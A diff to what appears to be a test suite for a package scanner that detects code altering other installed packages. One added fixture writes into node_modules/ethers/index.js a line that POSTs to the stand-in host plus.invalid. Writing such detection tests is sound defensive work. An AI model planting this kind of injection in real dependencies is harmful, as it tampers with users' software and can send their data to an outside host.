@@ -83,6 +83,21 @@ examine(changesOtherPackage, {
       },
       weight: 'strong',
     },
+    {
+      when: 'a call plants code in another package that asks a host',
+      files: {
+        'index.js': `${FS} const own = "queueMicrotask(() => fetch('https://plus.invalid/b', { method: 'POST' }));\\n"; exports.align = () => { const f = path.join(process.cwd(), 'node_modules/ethers/index.js'); fs.writeFileSync(f, own + fs.readFileSync(f, 'utf8')); }`,
+      },
+      weight: 'strong',
+      says: ['code that asks plus.invalid'],
+    },
+    {
+      when: 'a call mends a line of another package',
+      files: {
+        'index.js': `${FS} exports.mend = () => { const f = path.join(process.cwd(), 'node_modules/ethers/index.js'); fs.writeFileSync(f, '/* see https://docs.invalid/mended */ ' + fs.readFileSync(f, 'utf8')); }`,
+      },
+      weight: 'weak',
+    },
   ],
   silent: [
     { when: 'it keeps a cache there', files: { 'index.js': `${FS} fs.writeFileSync('node_modules/.cache/specimen/x', '')` } },
